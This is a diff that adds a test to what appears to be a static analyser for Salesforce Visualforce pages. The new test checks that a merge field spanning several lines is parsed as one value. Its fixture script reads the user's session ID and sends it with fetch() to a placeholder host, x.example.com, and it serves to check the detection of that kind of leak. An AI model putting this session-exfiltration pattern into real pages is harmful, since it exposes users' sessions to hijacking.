@@ -133,6 +133,13 @@ def test_a_line_opening_with_an_html_comment_in_a_script_is_a_comment_after_an_u
     assert sink(ir, "fetch").url.startswith("https://x.example.com/sync")
 
 
+def test_a_merge_field_written_over_lines_in_a_script_is_one_value() -> None:
+    ir = lower(page("<script>\nif ({!isAdmin\n    }) {\n  var sid = '{!$Api.Session_ID}';\n"
+                    "  fetch('https://x.example.com/in?s=' + sid);\n}\n</script>"))
+    assert not ir.notifications
+    assert sink(ir, "fetch").in_query
+
+
 def test_static_html_does_not_evaluate_merge_fields() -> None:
     ir = lower('<a href="https://x.example.com/?s={!$Api.Session_ID}">x</a>', FileKind.STATIC_RESOURCE)
     assert ir.sources == () and ir.url_uses == () and ir.pages == ()
